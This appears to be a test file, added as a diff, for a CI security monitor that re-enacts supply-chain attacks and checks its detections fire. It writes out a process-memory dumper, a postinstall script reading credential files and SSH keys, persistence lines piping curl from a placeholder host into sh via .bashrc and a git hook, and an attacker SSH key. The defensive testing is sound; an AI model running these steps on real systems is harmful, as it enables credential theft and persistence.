@@ -1,0 +1,310 @@
+"""The recipes beyond fingerprinting (issue 15), each fired by a faithful re-enactment of what CI
+attacks did, and each narrow exception kept quiet by the real program it is for: another
+process's memory and environment, SSH keys and credential files in a home directory, persistence
+by writes, discovery tools run by their path; the report grouped by importance."""
+import os
+import shutil
+import socket
+import subprocess
+import tempfile
+import threading
+
+from harness import *
+
+
+def fake_home():
+    """A home directory of the build's own ($HOME), with the files a credential stealer looks for."""
+    home = tempfile.mkdtemp(prefix="fpshim-home-")
+    files = {
+        ".aws/credentials": "[default]\naws_access_key_id = AKIAEXAMPLE\naws_secret_access_key = x\n",
+        ".npmrc": "//registry.npmjs.org/:_authToken=npm_example\n",
+        ".git-credentials": "https://ci:token@example.com\n",
+        ".docker/config.json": '{"auths": {}}\n',
+        ".bashrc": "# the build user's shell start-up\n",
+    }
+    for name, content in files.items():
+        path = os.path.join(home, name)
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        with open(path, "w") as f:
+            f.write(content)
+    os.makedirs(os.path.join(home, ".ssh"), mode=0o700)
+    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", os.path.join(home, ".ssh", "id_ed25519")],
+                   check=True, stdout=subprocess.DEVNULL)
+    return home
+
+
+def home_env(home, **extra):
+    env = dict(os.environ)
+    env["HOME"] = home
+    env.update(extra)
+    return env
+
+
+def fired(run):
+    return run.recipe_names()
+
+
+# --- 1. Other processes' memory and environment -------------------------------------------------
+
+# What the poisoned action did to the runner's worker: find it, read its memory map, then its
+# memory, and its environment. Here the victim is the shell that started the step (an ancestor).
+DUMP_PARENT = r"""
+import os, sys
+victim = os.getppid()
+with open(f"/proc/{victim}/cmdline", "rb") as f: f.read()
+with open(f"/proc/{victim}/maps") as f: regions = [l.split()[0] for l in f if l.split()[1].startswith("r")]
+try:
+    with open(f"/proc/{victim}/mem", "rb") as mem:
+        start = int(regions[0].split("-")[0], 16)
+        mem.seek(start)
+        mem.read(64)
+except OSError as e:
+    print("mem:", e, file=sys.stderr)
+with open(f"/proc/{victim}/environ", "rb") as f: f.read()
+"""
+
+
+def test_reading_another_process_memory_fires_critical():
+    r = fpshim(["/bin/sh", "-c", f"{PYTHON} -c '{DUMP_PARENT}'; true"])
+    expect_eq(r.returncode, 0, r.stderr)
+    rec = r.recipe("process_memory_read")
+    expect_eq(rec["importance"], "critical")
+    expect_eq(rec["technique"]["id"], "T1003.007")
+    paths = r.paths("process_memory_read")
+    readers = r.processes("process_memory_read")
+    expect_eq(len(readers), 1, readers)
+    victim = [p["ppid"] for p in r.report["processes"] if p["pid"] == readers[0]["pid"]][0]
+    for leaf in ("cmdline", "maps", "mem", "environ"):
+        expect(f"/proc/{victim}/{leaf}" in paths, f"{leaf} of {victim} not in {paths}")
+    readers = {os.path.basename(p["exe"]) for p in r.processes("process_memory_read")}
+    expect(readers == {os.path.basename(os.path.realpath(PYTHON))}, readers)
+    expect("most important [critical] process_memory_read" in r.text, r.text)
+
+
+# A process reading its own /proc entries, and a parent reading its own child's memory and
+# environment (a debugger, a test harness): quiet.
+OWN_AND_CHILD = r"""
+import os, subprocess, time
+for leaf in ("maps", "environ", "cmdline", "status"):
+    with open(f"/proc/self/{leaf}", "rb") as f: f.read()
+    with open(f"/proc/{os.getpid()}/{leaf}", "rb") as f: f.read()
+with open(f"/proc/thread-self/environ", "rb") as f: f.read()
+child = subprocess.Popen(["sleep", "30"])
+time.sleep(0.2)
+with open(f"/proc/{child.pid}/environ", "rb") as f: f.read()
+try:
+    with open(f"/proc/{child.pid}/mem", "rb") as f: f.read(1)
+except OSError:
+    pass
+child.kill(); child.wait()
+"""
+
+
+def test_own_proc_entries_and_a_childs_memory_stay_quiet():
+    r = fpshim([PYTHON, "-c", OWN_AND_CHILD])
+    expect_eq(r.returncode, 0, r.stderr)
+    expect("process_memory_read" not in fired(r), r.text)
+    # The child's reads did reach the collector and were judged, not missed: excluded as a descendant's.
+    expect(r.report["stats"]["excluded"] >= 2, r.report["stats"])
+
+
+# --- 2. Credential files and SSH keys ----------------------------------------------------------
+
+# A postinstall stealer (self-spreading npm packages, wallet and key harvesters): read the tokens
+# and keys of the build user's home.
+STEAL = r"""
+const fs = require("fs"), os = require("os"), path = require("path");
+for (const f of [".npmrc", ".aws/credentials", ".git-credentials", ".docker/config.json", ".ssh/id_ed25519",
+                 ".kube/config", ".config/gh/hosts.yml"]) {
+  try { fs.readFileSync(path.join(os.homedir(), f)); } catch (e) {}
+}
+"""
+
+
+def test_postinstall_stealer_fires_credentials_and_keys():
+    home = fake_home()
+    try:
+        script = os.path.join(home, "postinstall.js")
+        with open(script, "w") as f:
+            f.write(STEAL)
+        r = fpshim(["/bin/sh", "-c", f"node {script}"], env=home_env(home))
+        expect_eq(r.returncode, 0, r.stderr)
+        expect_eq(r.paths("credential_files"),
+                  sorted(os.path.join(home, f) for f in (".npmrc", ".aws/credentials", ".git-credentials",
+                                                         ".docker/config.json", ".kube/config",
+                                                         ".config/gh/hosts.yml")))
+        missing = r.path("credential_files", os.path.join(home, ".kube/config"))
+        expect_eq(missing["errors"], ["ENOENT"])  # a probe of a missing file is still a probe
+        expect_eq(r.paths("ssh_private_keys"), [os.path.join(home, ".ssh/id_ed25519")])
+        expect_eq(r.recipe("credential_files")["importance"], "critical")
+        groups = r.report["by_importance"]
+        expect_eq(groups[0]["importance"], "critical", groups)
+        expect_eq(sorted(groups[0]["recipes"]), ["credential_files", "ssh_private_keys"])
+        first = r.text.index("== critical: 2 recipe(s) ==")
+        headline = [line for line in r.text.splitlines() if line.startswith("fpshim: FINGERPRINTING DETECTED")]
+        expect_eq(headline, ["fpshim: FINGERPRINTING DETECTED: 2 recipe(s) fired, most important [critical] "
+                             "credential_files: Credential file read"])
+        expect(first < r.text.index("\n[critical] credential_files: "), r.text)
+    finally:
+        shutil.rmtree(home)
+
+
+def test_every_home_directory_is_in_the_filter():
+    home = fake_home()
+    try:
+        out = subprocess.run([FPSHIM, "check-rules"], env=home_env(home), stdout=subprocess.PIPE,
+                             stderr=subprocess.STDOUT, text=True, cwd=SOURCE)
+        expect_eq(out.returncode, 0, out.stdout)
+        for part in (":P/root/.npmrc", ":G/home/*/.npmrc", f":P{home}/.npmrc", ":G/proc/*/mem"):
+            expect(part in out.stdout, f"{part} not in {out.stdout}")
+    finally:
+        shutil.rmtree(home)
+
+
+def test_npm_reading_its_token_stays_quiet():
+    home = fake_home()
+    try:
+        r = fpshim(["npm", "config", "get", "registry"], env=home_env(home, npm_config_update_notifier="false"))
+        expect_eq(r.returncode, 0, r.stderr)
+        expect("credential_files" not in fired(r), r.text)
+        # npm did read it: the entry's exclusion spared it, the record was not missed.
+        expect(r.report["stats"]["excluded"] >= 1, r.report["stats"])
+    finally:
+        shutil.rmtree(home)
+
+
+def test_git_credential_store_stays_quiet():
+    home = fake_home()
+    try:
+        env = home_env(home, GIT_TERMINAL_PROMPT="0", GIT_CONFIG_NOSYSTEM="1")
+        with tempfile.TemporaryFile() as question:
+            question.write(b"protocol=https\nhost=example.com\n\n")
+            question.seek(0)
+            r = fpshim(["git", "-c", "credential.helper=store", "credential", "fill"], env=env, stdin=question)
+        expect_eq(r.returncode, 0, r.stderr)
+        expect("password=token" in r.stdout.decode(), r.stdout)
+        expect("credential_files" not in fired(r), r.text)
+        expect(r.report["stats"]["excluded"] >= 1, r.report["stats"])
+    finally:
+        shutil.rmtree(home)
+
+
+def accept_and_close(listener):
+    try:
+        conn, _ = listener.accept()
+        conn.close()
+    except OSError:
+        pass
+
+
+def test_ssh_reading_its_own_key_stays_quiet():
+    # ssh loads its identity once the TCP connection is up, before the SSH handshake; a listener
+    # that accepts and hangs up is enough for the real ssh to read the key it was given.
+    home = fake_home()
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(1)
+    t = threading.Thread(target=accept_and_close, args=(listener,))
+    t.start()
+    try:
+        key = os.path.join(home, ".ssh", "id_ed25519")
+        r = fpshim(["ssh", "-F", "/dev/null", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no",
+                    "-o", "UserKnownHostsFile=/dev/null", "-o", "IdentitiesOnly=yes", "-i", key,
+                    "-p", str(listener.getsockname()[1]), "127.0.0.1", "true"], env=home_env(home))
+        expect(r.returncode != 0, "the listener hangs up")
+        expect("ssh_private_keys" not in fired(r), r.text)
+        expect(r.report["stats"]["excluded"] >= 1, r.report["stats"])
+    finally:
+        listener.close()
+        t.join()
+        shutil.rmtree(home)
+
+
+# --- 3. Persistence by writes -----------------------------------------------------------------
+
+def test_writing_start_up_files_fires_reading_them_does_not():
+    home = fake_home()
+    try:
+        script = ("cat \"$HOME/.bashrc\" >/dev/null; . \"$HOME/.bashrc\"; "
+                  "echo 'curl -s https://example.invalid/x | sh' >> \"$HOME/.bashrc\"; "
+                  "echo 'ssh-ed25519 AAAA attacker' >> \"$HOME/.ssh/authorized_keys\"; "
+                  f"{PYTHON} -c \"open('/etc/ld.so.preload', 'r+')\" 2>/dev/null; "
+                  f"{PYTHON} -c \"open('/etc/cron.d/fpshim-absent', 'r+')\" 2>/dev/null; true")
+        r = fpshim(["/bin/sh", "-c", script], env=home_env(home))
+        expect_eq(r.returncode, 0, r.stderr)
+        expect_eq(r.paths("persistence_writes"),
+                  sorted([os.path.join(home, ".bashrc"), os.path.join(home, ".ssh/authorized_keys"),
+                          "/etc/ld.so.preload", "/etc/cron.d/fpshim-absent"]))
+        bashrc = r.path("persistence_writes", os.path.join(home, ".bashrc"))
+        expect_eq(bashrc["operations"], ["write"])
+        expect_eq(bashrc["count"], 1)  # the two reads do not count
+        preload = r.path("persistence_writes", "/etc/ld.so.preload")
+        expect_eq(preload["errors"], ["ENOENT"])
+
+        quiet = fpshim(["/bin/sh", "-c", "cat \"$HOME/.bashrc\" >/dev/null; . \"$HOME/.bashrc\"; "
+                                         "cat /etc/profile >/dev/null; ls /etc/profile.d >/dev/null"],
+                       env=home_env(home))
+        expect_eq(quiet.returncode, 0, quiet.stderr)
+        expect("persistence_writes" not in fired(quiet), quiet.text)
+    finally:
+        shutil.rmtree(home)
+
+
+def test_writing_a_git_hook_fires_git_writing_its_samples_does_not():
+    repo = tempfile.mkdtemp(prefix="fpshim-repo-")
+    try:
+        init = fpshim(["git", "init", "-q", "."], cwd=repo)
+        expect_eq(init.returncode, 0, init.stderr)
+        expect(os.path.exists(os.path.join(repo, ".git/hooks/pre-commit.sample")), os.listdir(repo))
+        expect("persistence_writes" not in fired(init), init.text)
+        expect(init.report["stats"]["excluded"] >= 1, init.report["stats"])  # git wrote them; spared by exe
+        # A postinstall that plants a hook in the checkout, to run on the next checkout of the build.
+        hook = os.path.join(repo, ".git/hooks/post-checkout")
+        r = fpshim(["/bin/sh", "-c", "printf '#!/bin/sh\\ncurl -s https://example.invalid/x | sh\\n' "
+                                     "> .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout"], cwd=repo)
+        expect_eq(r.returncode, 0, r.stderr)
+        expect_eq(r.paths("persistence_writes"), [hook])
+        expect_eq(r.path("persistence_writes", hook)["operations"], ["write"])
+    finally:
+        shutil.rmtree(repo)
+
+
+# --- 5. Discovery tools by executable ---------------------------------------------------------
+
+def test_running_discovery_tools_fires_even_when_absent():
+    # A script that surveys the machine: dmidecode through PATH (if installed), nmap and tcpdump by
+    # their paths; an exec that fails because the tool is missing is reported with its errno.
+    env = dict(os.environ, PATH="/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin")
+    r = fpshim(["/bin/sh", "-c", "dmidecode -t system >/dev/null 2>&1; /usr/bin/nmap -sn 192.0.2.0/30 2>/dev/null; "
+                                 "/usr/bin/tcpdump -c 1 -i lo >/dev/null 2>&1; true"], env=env, timeout=60)
+    expect_eq(r.returncode, 0, r.stderr)
+    paths = r.paths("discovery_tools_exec")
+    for tool in ("/usr/bin/nmap", "/usr/bin/tcpdump"):
+        expect_eq(r.path("discovery_tools_exec", tool)["errors"], [] if os.path.exists(tool) else ["ENOENT"])
+    dmidecode = shutil.which("dmidecode", path=env["PATH"])
+    expect(dmidecode is None or dmidecode in paths, f"{dmidecode} not in {paths}")
+    for p in r.recipe("discovery_tools_exec")["paths"]:
+        expect_eq(p["operations"], ["exec"])
+
+
+def test_ordinary_tools_do_not_fire_discovery_tools():
+    r = fpshim(["/bin/sh", "-c", "uname -a >/dev/null; ls /usr/bin >/dev/null; test -x /usr/bin/nmap; "
+                                 "command -v tcpdump >/dev/null; true"])
+    expect_eq(r.returncode, 0, r.stderr)
+    expect("discovery_tools_exec" not in fired(r), r.text)
+
+
+def test_listing_processes_stays_quiet_reading_a_stranger_environ_does_not():
+    """ps opens every process's cmdline and environ, pgrep and pkill their cmdlines: what test
+    scripts run to find a server they started. The exceptions name those executables; cat reading
+    pid 1's environment is not excused."""
+    r = fpshim(["/bin/sh", "-c", "ps aux >/dev/null; pgrep -f no-such-process; pkill -0 -f no-such-process; "
+                                 "cat /proc/1/environ >/dev/null 2>&1; true"])
+    expect_eq(r.returncode, 0, r.stderr)
+    readers = {os.path.basename(p["exe"]) for p in r.processes("process_memory_read")}
+    expect_eq(readers, {"cat"}, r.text)
+    expect(r.report["stats"]["excluded"] > 0, r.report["stats"])
+
+
+if __name__ == "__main__":
+    main(globals())
